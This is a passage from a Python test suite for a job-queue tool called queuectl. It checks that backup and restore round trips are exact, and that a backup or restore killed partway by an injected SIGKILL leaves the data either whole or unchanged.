    the same files, shows the same jobs, passes fsck and rebuilds to itself."""
    cli_ok(qhome, "config", "set", "gpus", "0,1")
    cli_ok(qhome, "config", "set", "on-finish", "true")
    cli_ok(qhome, "queue", "add", "slow", "--parallel", "2")
    cli_ok(qhome, "schedule", "add", "tick", "--every", "1h", "--", "echo tick")
    cli_ok(qhome, "schedule", "add", "nightly", "--cron", "0 3 * * *", "--", "true")
    cli_ok(qhome, "schedule", "pause", "nightly")
    cli_ok(qhome, "add", "--id", "done", "--label", "team=a", "echo done")
    cli_ok(qhome, "add", "--id", "broken", "--max-retries", "0", "exit 3")
    cli_ok(qhome, "add", "--id", "card", "--gpus", "1", 'echo "$CUDA_VISIBLE_DEVICES"')
    cli_ok(qhome, "add", "--id", "own", "--on-finish", "exit 4", "true")
    worker = procs.worker(qhome, "--count", "2")
    wait_until(
        lambda: (
            json.loads(cli_ok(qhome, "show", "--json", "own")).get("hook") is not None
            and len(jobs_in(qhome, "completed")) == 3
        ),
        message="the jobs to finish and the per-job hook to be journaled",
    )
    worker.terminate()
    assert worker.wait(timeout=60) == 0
    cli_ok(qhome, "add", "--id", "waiting", "--queue", "slow", "--unique-key", "k1", "true")
    cli_ok(qhome, "pause", "slow")
    cli_ok(qhome, "add", "--id", "kept", "--hold", "true")
    cli_ok(qhome, "add", "--id", "later", "--after", "waiting", "true")
    cli_ok(qhome, "add", "--id", "never", "--delay", "1d", "true")
    cli_ok(qhome, "cancel", "never")
    store = Store(Home(qhome))
    enqueue(store, {"id": "flaky", "command": "exit 1", "max_retries": 5})
    finish(store, "flaky", ok=False)
    states = {s: jobs_in(qhome, s) for s in JOB_FOLDERS}
    assert states["held"] == ["kept"] and states["blocked"] == ["later"]
    assert states["failed"] == ["flaky"] and states["dead"] == ["broken"]
    assert states["cancelled"] == ["never"] and "card" in states["completed"]
    assert (qhome / "hooks" / "enabled").exists() and (qhome / "hooks" / "cursor.json").exists()

    archive = tmp_path / "all.tar.gz"
    made = json.loads(cli_ok(qhome, "backup", "--logs", "--json", str(archive)))
    assert made["queues"] == 1 and made["schedules"] == 2 and made["recovered"] == []
    assert sum(made["jobs"].values()) == 9
    target = tmp_path / "restored"
    done = json.loads(cli_ok(target, "restore", "--json", str(archive)))
    assert done["jobs"] == made["jobs"] and done["schedules"] == 2 and not done["replaced"]

    folders = (*JOB_FOLDERS, "queues", "schedules", "hooks", "unique")
    assert tree_bytes(target, folders) == tree_bytes(qhome, folders)
    assert (target / "config.json").read_bytes() == (qhome / "config.json").read_bytes()
    assert tree_bytes(target / "logs", ("done", "card")) == tree_bytes(
        qhome / "logs", ("done", "card")
    )
    assert json.loads(cli_ok(target, "show", "--json", "own"))["hook"]["exit_code"] == 4
    for job_id in ("done", "own", "broken", "later", "flaky"):
        assert cli_ok(target, "show", "--json", job_id) == cli_ok(qhome, "show", "--json", job_id)
    for listing_args in (("schedule", "list", "--json"), ("queue", "list", "--json")):
        assert cli_ok(target, *listing_args) == cli_ok(qhome, *listing_args)
    assert_sound(target, 9)
    # The restored home works: the unique key is still held, and a release runs.
    again = cli_ok(target, "add", "--queue", "slow", "--unique-key", "k1", "true")
    assert again.strip() == "waiting"


# ---------------------------------------------------------------------- SIGKILL midway

KILL_AT = """
import os, signal, sys, importlib
target, nth = sys.argv[1], int(sys.argv[2])
module_name, _, attribute = target.rpartition(":")
owner = importlib.import_module(module_name)
path = attribute.split(".")
for name in path[:-1]:
    owner = getattr(owner, name)
original = getattr(owner, path[-1])
calls = [0]
def killing(*args, **kwargs):
    calls[0] += 1
    if calls[0] == nth:
        os.kill(os.getpid(), signal.SIGKILL)
    return original(*args, **kwargs)
setattr(owner, path[-1], killing)
sys.argv = ["queuectl", *sys.argv[3:]]
from queuectl.cli.main import main
main()
"""
"""Runs queuectl with one function replaced so that its n-th call SIGKILLs the process
(a real SIGKILL at a chosen point: no handler, no finally block runs)."""


def killed_at(point: str, nth: int, home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", KILL_AT, point, str(nth), "--home", str(home), *args],
        capture_output=True,
        text=True,
        timeout=120,
    )


def snapshot(home: Path) -> dict[str, object]:
    """What a home holds, as a user sees it: jobs per folder with their bytes, queues,
    config."""
    return {
        "jobs": tree_bytes(home, JOB_FOLDERS),
        "named": tree_bytes(home, ("queues", "schedules")),
        "config": (home / "config.json").read_bytes() if (home / "config.json").exists() else None,
    }


BACKUP_KILLS = [
    ("queuectl.storage.archive:ArchiveWriter.add_bytes", 1),  # the manifest
    ("queuectl.storage.archive:ArchiveWriter.add_file", 1),  # the journal
    ("queuectl.storage.archive:ArchiveWriter.add_bytes", 5),  # among the jobs
    ("queuectl.storage.archive:ArchiveWriter.commit", 1),  # written, not yet synced
    ("queuectl.storage.archive:fsync_dir", 1),  # renamed into place, folder not synced
]


@pytest.mark.parametrize(("point", "nth"), BACKUP_KILLS, ids=lambda v: str(v).split(".")[-1])
def test_a_backup_killed_midway_leaves_no_half_archive_under_the_name(
    small: Store, tmp_path: Path, point: str, nth: int
) -> None:
    archive = tmp_path / "b.tar.gz"
    old = tmp_path / "old.tar.gz"
    assert run_cli(small.home.root, "backup", str(old)).returncode == 0
    enqueue(small, {"id": "newer", "command": "true"})  # the new archive differs from the old
    archive.write_bytes(old.read_bytes())
    result = killed_at(point, nth, small.home.root, "backup", str(archive))
    assert result.returncode == -9, result.stderr
    data = archive.read_bytes()
    if data != old.read_bytes():  # killed after the rename: the new archive, whole
        assert "pending/newer.json" in members(archive)
        target = tmp_path / "restored"
        assert run_cli(target, "restore", str(archive)).returncode == 0
        assert_sound(target, 6)
    leftovers = [p.name for p in tmp_path.iterdir() if p.name.startswith(".b.tar.gz.")]
    again = run_cli(small.home.root, "backup", str(archive))
    assert again.returncode == 0, again.stderr
    assert "pending/newer.json" in members(archive)
    assert len(leftovers) <= 1  # the dead backup's hidden tmp file, never the name given


RESTORE_KILLS = [
    ("queuectl.storage.archive:Staging.write_bytes", 3),  # staging the jobs
    ("queuectl.storage.archive:Staging.sync", 1),  # staged, before the commit
    *[("os:rename", n) for n in (1, 2, 3, 6, 9, 12, 15, 18, 21)],  # the commit and moves
    ("queuectl.storage.archive:shutil.rmtree", 1),  # installed, old contents not yet gone
]


@pytest.mark.parametrize(("point", "nth"), RESTORE_KILLS, ids=lambda v: str(v).split(":")[-1])
def test_a_restore_killed_midway_leaves_the_home_as_it_was_or_restored(
    two_homes: tuple[Path, Path], small: Store, tmp_path: Path, point: str, nth: int
) -> None:
    archive, other = two_homes
    before = snapshot(other)
    wanted = snapshot(small.home.root)
    result = killed_at(point, nth, other, "restore", "--force", "--yes", str(archive))
    assert result.returncode == -9, result.stderr  # every point is reached
    status = run_cli(other, "status", "--json")  # any command finishes a committed install
    assert status.returncode == 0, status.stderr
    now = snapshot(other)
    assert now in (before, wanted), f"a mix after a kill at {point} #{nth}"
    assert not [p.name for p in other.iterdir() if p.name.startswith(".restore")]
    checked = run_cli(other, "fsck")
    assert checked.returncode == 0, checked.stdout
    if now == wanted:
        assert_sound(other, 5)
    again = run_cli(other, "restore", "--force", "--yes", str(archive))
    assert again.returncode == 0, again.stderr
    assert snapshot(other) == wanted


@pytest.mark.parametrize("nth", [1, 4, 12])
def test_a_restore_into_a_new_home_killed_midway_can_simply_be_run_again(
    two_homes: tuple[Path, Path], tmp_path: Path, nth: int
) -> None:
    archive, _ = two_homes
    fresh = tmp_path / "fresh"
    result = killed_at("os:rename", nth, fresh, "restore", str(archive))
    assert result.returncode in (-9, 0), result.stderr
    if fresh.exists():  # any command finishes a committed install, or drops a dead staging
        assert run_cli(fresh, "status").returncode == 0
        assert not [p.name for p in fresh.iterdir() if p.name.startswith(".restore")]
    jobs = tree_bytes(fresh, JOB_FOLDERS) if fresh.exists() else {}
    again = run_cli(fresh, "restore", str(archive))
    if jobs:  # the kill came after the commit: the home was restored whole
        assert len(jobs) == 5 and again.returncode == 1 and "not empty" in again.stderr
    else:  # before it: nothing of the backup counts, and the restore runs as into a new home
        assert again.returncode == 0, again.stderr
    assert_sound(fresh, 5)
